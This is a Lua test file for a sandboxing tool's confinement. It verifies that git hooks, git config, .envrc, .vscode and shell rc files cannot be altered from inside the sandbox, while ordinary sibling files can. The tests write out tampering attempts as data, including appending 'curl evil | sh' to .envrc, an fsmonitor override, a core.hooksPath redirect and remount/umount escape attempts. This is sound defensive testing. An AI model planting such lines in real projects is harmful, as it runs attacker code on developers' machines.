-- corral confine's read-only paths inside the boundary (corral.confinement.protected):
-- what runs code later on the operator's behalf cannot be written, created, renamed,
-- unlinked or chmod-ed from inside, while an ordinary sibling can, in the same
-- confinement, after the attempts (docs/architecture.md, invariant 2).
local h = require "helpers"
local json = require "dkjson"
local probe = require "corral.probe"

-- Each kind of protected path, the attempts on it, and a control on an ordinary
-- sibling in the same directory. Paths are relative to the --permit directory.
local KINDS = {
  { name = "git hooks", path = "src/repo/.git/hooks",
    attempts = { "echo evil >> src/repo/.git/hooks/pre-commit", "touch src/repo/.git/hooks/post-checkout",
      "mv src/repo/.git/hooks src/repo/.git/hooks.old", "rm -f src/repo/.git/hooks/pre-commit",
      "chmod 777 src/repo/.git/hooks/pre-commit" },
    control = "touch src/repo/.git/info/new && mv src/repo/.git/info/new src/repo/.git/info/new2 && " ..
      "chmod 600 src/repo/.git/info/new2 && rm src/repo/.git/info/new2" },
  { name = "git config", path = "src/repo/.git/config",
    attempts = { "echo '[core] fsmonitor = evil' >> src/repo/.git/config",
      "git -C src/repo config core.hooksPath /tmp", "mv src/repo/.git/config src/repo/.git/config.old",
      "rm -f src/repo/.git/config", "chmod 777 src/repo/.git/config",
      -- the directories on the way are pinned: no other .git, nor repository, in their place
      "mv src/repo/.git src/repo/.git.old", "mv src/repo src/repo.old", "mv src src.old" },
    control = "echo notes >> src/repo/.git/description && mv src/repo/.git/description src/repo/.git/d2 && " ..
      "mv src/repo/.git/d2 src/repo/.git/description && chmod 644 src/repo/.git/description && " ..
      "git -C src/repo add file && git -C src/repo -c user.name=a -c user.email=a@b commit -qm m" },
  { name = ".envrc", path = ".envrc",
    attempts = { "echo 'curl evil | sh' >> .envrc", "mv .envrc envrc.old", "rm -f .envrc", "chmod 777 .envrc" },
    control = "echo data >> plain && mv plain plain2 && mv plain2 plain && chmod 600 plain" },
  { name = ".vscode", path = ".vscode",
    attempts = { "echo '{}' > .vscode/tasks.json", "touch .vscode/settings.json", "mv .vscode vscode.old",
      "rm -rf .vscode", "chmod 777 .vscode" },
    control = "mkdir -p other && echo '{}' > other/tasks.json && mv other other2 && chmod 700 other2 && " ..
      "rm -r other2" },
  { name = "shell rc file", path = ".bashrc",
    attempts = { "echo 'evil' >> .bashrc", "mv .bashrc bashrc.old", "rm -f .bashrc", "chmod 777 .bashrc" },
    control = "echo data >> plain && chmod 644 plain" },
}

-- The operator's tree: a repository two levels down, the files above, and what each
-- holds before the run (compared after it).
local function make_tree(box)
  h.sh([[mkdir "$1" && cd "$1" && mkdir -p src/repo .vscode && git -C src/repo init -q && echo orig > src/repo/file &&
    printf '#!/bin/sh\nexit 0\n' > src/repo/.git/hooks/pre-commit && chmod 755 src/repo/.git/hooks/pre-commit &&
    echo 'export A=1' > .envrc && echo '{"tasks": []}' > .vscode/tasks.json && echo 'alias ll=ls' > .bashrc &&
    echo plain > plain]], box)
  return box
end

local function snapshot(box)
  return h.sh([[cd "$1" && find .envrc .bashrc .vscode src/repo/.git/config src/repo/.git/hooks \
    -exec stat -c '%n %a %s %Y' {} + | sort && cat .envrc .bashrc src/repo/.git/config]], box)
end

-- One shell script: every attempt of every kind (each status printed), then each
-- kind's control.
local function script()
  local lines = {}
  for i, k in ipairs(KINDS) do
    for j, a in ipairs(k.attempts) do
      lines[#lines + 1] = string.format("{ %s; } 2>/dev/null; echo attempt-%d-%d=$?", a, i, j)
    end
  end
  for i, k in ipairs(KINDS) do
    lines[#lines + 1] = string.format("{ %s; } && echo control-%d-ok", k.control, i)
  end
  return table.concat(lines, "\n")
end

local function assert_held(out)
  for i, k in ipairs(KINDS) do
    for j, a in ipairs(k.attempts) do
      local rc = tonumber(out:match("attempt%-" .. i .. "%-" .. j .. "=(%d+)"))
      assert.truthy(rc, "attempt on " .. k.name .. " did not end: " .. out)
      h.assert_refused(rc, k.name .. ": " .. a .. "\n" .. out)
    end
    -- the control, after every attempt, in the same confinement
    assert.truthy(out:find("\ncontrol%-" .. i .. "%-ok\n"), "control of " .. k.name .. " failed: " .. out)
  end
end

-- Runs an attempt, then its control, as `sh -c` at the end of argv (a confine --exec line
-- without its command): the attempt refused, then `marker` printed by the control.
local function refused_then(argv, attempt, control, marker)
  local line = { table.unpack(argv) }
  for _, a in ipairs({ "--", "sh", "-c", h.attempt_then_control(attempt, control .. " && echo " .. marker) }) do
    line[#line + 1] = a
  end
  local out, status = h.capture(line)
  h.assert_refused(h.after_attempt(out, (marker:gsub("%-", "%%-"))), out)
  assert.are.equal(0, status, out)
end

describe("confine's read-only paths #root", function()
  local root, box

  before_each(function()
    root = h.tmpdir("confine-ro")
    box = make_tree(root .. "/box")
  end)

  after_each(function() h.rmrf(root) end)

  local function confine(...)
    local argv = { "confine", "--exec", "--permit", box, ... }
    argv[#argv + 1] = "--"
    for _, a in ipairs({ "sh", "-c", script() }) do argv[#argv + 1] = a end
    return h.corral(table.unpack(argv))
  end

  for _, layer in ipairs({ "ns", "bwrap" }) do
    it("the " .. layer .. " layer keeps each kind read-only (write, create, rename, unlink, chmod); control: " ..
      "its ordinary sibling changes, and git commits", function()
      local p = probe.check(layer == "ns" and "confinement.namespace" or "confinement.bwrap")
      if not p.holds then return pending("the " .. layer .. " layer does not hold here: " .. tostring(p.detail)) end
      local before = snapshot(box)
      local out, status = confine("--layers", layer .. ",landlock")
      assert.are.equal(0, status, out)
      assert_held(out)
      assert.are.equal(before, snapshot(box))
      -- the control's commit reached the operator's repository
      assert.matches("^%x+ m\n$", h.sh('git -C "$1" log --oneline', box .. "/src/repo"))
    end)
  end

  it("a nested user and mount namespace cannot remount or unmount them (--layers ns: no Landlock to refuse " ..
    "mount(2)); control: its write beside them lands", function()
    local p = probe.check("confinement.namespace")
    if not p.holds then return pending("the ns layer does not hold here: " .. tostring(p.detail)) end
    local inner = 'mount -o remount,bind,rw "$PWD/.vscode"; umount "$PWD/src/repo/.git/config"; ' ..
      'umount -l "$PWD/.envrc"; echo x > "$PWD/.vscode/tasks.json" || echo x >> "$PWD/src/repo/.git/config" ' ..
      '|| echo x >> "$PWD/.envrc"'
    refused_then({ h.host, "confine", "--exec", "--layers", "ns", "--permit", box },
      "unshare -Urm sh -c '" .. inner .. "'", "unshare -Urm sh -c 'echo data >> \"$PWD/plain\"'", "nested-ok")
    assert.are.equal("plain\ndata\n", h.read(box .. "/plain"))
    assert.are.equal('{"tasks": []}\n', h.read(box .. "/.vscode/tasks.json"))
    assert.are.equal("export A=1\n", h.read(box .. "/.envrc"))
  end)

  it("holds for a caller without privileges too (its own user namespace); control: the sibling's write",
    function()
    h.sh('chmod 0755 "$1" && chown -R "$2:$2" "$3"', root, tostring(h.TEST_UID), box)
    refused_then(h.as_test_user({ "env", "HOME=" .. root, h.host, "confine", "--exec", "--permit", box }),
      "echo x >> .envrc || echo x >> src/repo/.git/config || mv src/repo src/r2", "echo data >> plain",
      "unprivileged-ok")
    assert.are.equal("export A=1\n", h.read(box .. "/.envrc"))
    assert.truthy(h.read(box .. "/src/repo/file"))
  end)

  it("--writable drops the defaults at or beneath it: .envrc and the repository become writable", function()
    refused_then({ h.host, "confine", "--exec", "--permit", box, "--writable", box .. "/.envrc", "--writable",
      box .. "/src/repo" }, "echo more >> .bashrc", "echo more >> .envrc && echo '[x] y = 1' >> " ..
      "src/repo/.git/config && touch src/repo/.git/hooks/new", "writable-ok")
    assert.are.equal("export A=1\nmore\n", h.read(box .. "/.envrc"))
    assert.truthy(h.read(box .. "/src/repo/.git/hooks/new"))
  end)

  it("--read-only adds a path; control: its sibling stays writable", function()
    h.sh('mkdir "$1/build" && echo x > "$1/build/Makefile" && echo y > "$1/build/other"', box)
    refused_then({ h.host, "confine", "--exec", "--permit", box, "--read-only", box .. "/build/Makefile" },
      "echo evil >> build/Makefile", "echo z >> build/other", "sibling-ok")
    assert.are.equal("x\n", h.read(box .. "/build/Makefile"))
  end)

  it("refuses --read-only and --writable outside the boundary, naming the flag (exit 2), and runs nothing", function()
    for _, flag in ipairs({ "--read-only", "--writable" }) do
      for _, path in ipairs({ root, box, box .. "/../box/../outside" }) do
        local out, status = h.corral("confine", "--exec", "--permit", box, flag, path, "--", "touch", box .. "/ran")
        assert.are.equal(2, status, out)
        assert.matches("invalid_argument: " .. flag:gsub("%-", "%%-") .. " %(#1%)", out)
        assert.is_nil(h.read(box .. "/ran"))
      end
    end
    -- a file with another name, and a missing one
    h.sh('ln "$1/plain" "$1/plain-link"', box)
    for _, path in ipairs({ box .. "/plain", box .. "/missing" }) do
      local out, status = h.corral("confine", "--permit", box, "--read-only", path, "--", "true")
      assert.are.equal(2, status, out)
      assert.matches("%-%-read%-only %(#1%)", out)
    end
    -- a path inside one that stays read-only: its protected directory is named
    local out, status = h.corral("confine", "--permit", box, "--writable", box .. "/src/repo/.git/hooks/pre-commit",
      "--", "true")
    assert.are.equal(2, status, out)
    assert.matches("%-%-writable %(#1%): .* stays read%-only; give %-%-writable " .. box:gsub("%p", "%%%0") ..
      "/src/repo/%.git/hooks\n", out)
    -- control: the same flags with paths inside run
    out, status = h.corral("confine", "--exec", "--permit", box, "--read-only", box .. "/src",
      "--writable", box .. "/missing", "--", "touch", box .. "/ran")
    assert.are.equal(0, status, out)
    assert.truthy(h.read(box .. "/ran"))
  end)

  it("finds repositories 3 levels down, not 4, and says when the search stopped at its bound", function()
    h.sh([[cd "$1" && mkdir -p a/b/three a/b/c/four && git -C a/b/three init -q && git -C a/b/c/four init -q]], box)
    local out, status = h.corral("confine", "--json", "--permit", box, "--", "true")
    assert.are.equal(0, status, out)
    local ro = json.decode(out).read_only
    local held = table.concat(ro.paths, "\n") .. "\n"
    assert.truthy(held:find(box .. "/a/b/three/.git/config\n", 1, true), held)
    assert.is_nil(held:find("/four/", 1, true), held)
    assert.is_false(ro.stopped)
    -- past 5,000 entries the search stops, and the spec says so
    h.sh('mkdir "$1/many" && cd "$1/many" && touch $(seq -f f%g 5001)', box)
    out, status = h.corral("confine", "--permit", box, "--", "true")
    assert.are.equal(0, status, out)
    assert.matches("search: stopped at its bound", out)
  end)

  it("lists a protected name reached through a symlink as not protected, and runs (the wrapper binds no " ..
    "path through one)", function()
    h.sh([[cd "$1" && mkdir -p dotfiles/config/fish realgit/hooks r3 && touch realgit/config &&
      ln -s dotfiles/config .config && ln -s ../realgit r3/.git]], box)
    local out, status = h.corral("confine", "--permit", box, "--", "true")
    assert.are.equal(0, status, out)
    for _, p in ipairs({ "/.config/fish", "/r3/.git/config", "/r3/.git/hooks" }) do
      assert.truthy(out:find("not protected: " .. box .. p .. " (", 1, true), p .. ": " .. out)
    end
    -- control: the same boundary runs, its other protected paths held
    out, status = h.corral("confine", "--exec", "--permit", box, "--", "sh", "-c",
      h.attempt_then_control("echo x >> .envrc", "echo data >> plain && echo ran-ok"))
    h.assert_refused(h.after_attempt(out, "ran%-ok"), out)
    assert.are.equal(0, status, out)
  end)

  it("the spec lists them, text and JSON; under Landlock alone it says they stay writable, and refuses " ..
    "--read-only (exit 3)", function()
    h.sh('ln -s .envrc "$1/.profile"', box)
    local out, status = h.corral("confine", "--permit", box, "--", "true")
    assert.are.equal(0, status, out)
    for _, p in ipairs({ "/.bashrc", "/.envrc", "/.vscode", "/src/repo/.git/config", "/src/repo/.git/hooks" }) do
      assert.truthy(out:find("--read-only " .. box .. p, 1, true), p .. ": " .. out)
      assert.truthy(out:find(box .. p .. "\n", 1, true), p .. ": " .. out)
    end
    assert.truthy(out:find("not protected: " .. box .. "/.profile (a symlink", 1, true), out)
    out, status = h.corral("confine", "--json", "--permit", box, "--", "true")
    assert.are.equal(0, status, out)
    local ro = json.decode(out).read_only
    assert.is_true(ro.held)
    assert.are.equal(5, #ro.paths)
    assert.truthy(#ro.absent > 0)
    out, status = h.corral("confine", "--json", "--layers", "landlock", "--permit", box, "--", "true")
    assert.are.equal(0, status, out)
    ro = json.decode(out:match("{.*}")).read_only
    assert.is_false(ro.held)
    assert.matches("Landlock alone", ro.why)
    for _, a in ipairs(json.decode(out:match("{.*}")).args) do assert.are_not.equal("--read-only", a) end
    out, status = h.corral("confine", "--layers", "landlock", "--permit", box, "--read-only", box .. "/plain",
      "--", "true")
    assert.are.equal(3, status, out)
    assert.matches("read_only_paths", out)
    -- the wrapper itself refuses the same
    out, status = h.capture({ h.wrapper, "exec-confined", "--layers", "landlock", "--permit", box,
      "--read-only", box .. "/plain", "--", "true" })
    assert.are.equal(125, status, out)
    assert.matches("Landlock alone", out)
  end)
end)
